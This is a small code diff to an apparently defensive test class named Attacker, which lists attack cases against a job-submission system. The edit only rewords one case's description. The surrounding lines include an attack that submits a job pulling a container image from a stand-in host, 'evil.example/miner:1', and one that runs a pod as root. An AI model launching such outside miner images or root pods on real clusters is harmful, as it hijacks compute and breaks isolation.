@@ -172,7 +172,7 @@ class Attacker:
             ),
             Attack(
                 7,
-                "an image from elsewhere, or a pod as root",
+                "an image from elsewhere, or a job's pod as root",
                 [
                     self._submits({"runtime_env": {**RUNTIME_ENV, "image_uri": "evil.example/miner:1"}}),
                     self._runs_as_root,
